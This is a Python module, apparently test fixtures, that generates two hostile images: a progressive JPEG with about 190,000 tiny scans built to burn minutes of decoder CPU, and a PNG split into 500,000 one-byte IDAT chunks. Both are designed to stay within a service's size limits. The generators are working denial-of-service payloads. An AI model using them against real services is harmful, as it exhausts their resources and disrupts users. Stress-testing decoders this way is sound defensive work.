"""Hostile images made from scratch: a progressive JPEG made of many tiny scans, a PNG of
many chunks. Each stays within the service's documented limits (bytes and pixels)."""

from __future__ import annotations

import struct
import zlib


def _segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def _bits(bits: str) -> bytes:
    bits += "1" * (-len(bits) % 8)  # pad with ones, as encoders do
    out = bytearray()
    for i in range(0, len(bits), 8):
        byte = int(bits[i : i + 8], 2)
        out.append(byte)
        if byte == 0xFF:
            out.append(0)  # byte stuffing
    return bytes(out)


def jpeg_scan_bomb(width: int = 6000, height: int = 4000, scans: int = 190_000) -> bytes:
    """A grey progressive JPEG: one DC scan, then `scans` AC scans of a few bytes each, every
    one an end-of-band run over the whole image, so each costs the decoder a pass over every
    block (about 2.8 ms at 24 MP: 190,000 scans are minutes of CPU in 7 MB)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(b"\xff\xd8")
    out += _segment(0xDB, b"\x00" + b"\x01" * 64)
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    out += _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")  # DC: category 0 = '0'
    out += _segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0")  # AC: EOB run 2^14.. = '0'
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00")
    out += _bits("0" * blocks)
    count = -(-blocks // 32767)
    runs = [blocks // count + (i < blocks % count) for i in range(count)]
    assert all(16384 <= r <= 32767 for r in runs), "pick dimensions with runs in 2^14..2^15-1"
    ac = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + _bits(
        "".join("0" + format(r - 16384, "014b") for r in runs)
    )
    out += ac * scans
    out += b"\xff\xd9"
    return bytes(out)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_chunk_bomb(chunks: int = 500_000) -> bytes:
    """A small valid PNG whose image data is split into `chunks` IDAT chunks of one byte."""
    width = height = 64
    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    data = zlib.compress(raw)
    pieces = [data[i : i + 1] for i in range(len(data))]
    pieces += [b""] * max(0, chunks - len(pieces))
    out = bytearray(b"\x89PNG\r\n\x1a\n")
    out += _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    for piece in pieces:
        out += _chunk(b"IDAT", piece)
    out += _chunk(b"IEND", b"")
    return bytes(out)
